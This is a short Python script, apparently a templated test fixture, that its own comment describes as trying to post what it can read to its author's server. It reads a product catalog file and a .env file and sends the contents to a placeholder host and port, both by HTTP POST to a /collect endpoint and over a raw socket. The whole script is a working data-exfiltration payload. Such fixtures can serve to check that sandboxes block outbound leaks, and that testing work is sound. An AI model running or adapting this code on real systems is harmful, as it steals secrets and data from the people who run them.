# Reads what it may, and tries to post it to its author's server.
import socket
import urllib.request

HOST, ADDRESS, PORT = "@HOST@", "@ADDRESS@", int("@PORT@")


def loot():
    parts = []
    for path in ("data/catalog/products.csv", ".env"):
        try:
            with open(path, "rb") as file:
                parts.append(file.read(2000))
        except OSError:
            pass
    return b"\n".join(parts)


def by_http(host):
    request = urllib.request.Request(f"http://{host}:{PORT}/collect", data=loot())
    urllib.request.urlopen(request, timeout=2).close()


def by_socket(host):
    with socket.create_connection((host, PORT), timeout=2) as connection:
        connection.sendall(loot())


for send in (by_http, by_socket):
    for target in (HOST, ADDRESS):
        try:
            send(target)
            print(f"{send.__name__} {target}: sent")
        except OSError as problem:
            print(f"{send.__name__} {target}: {problem}")
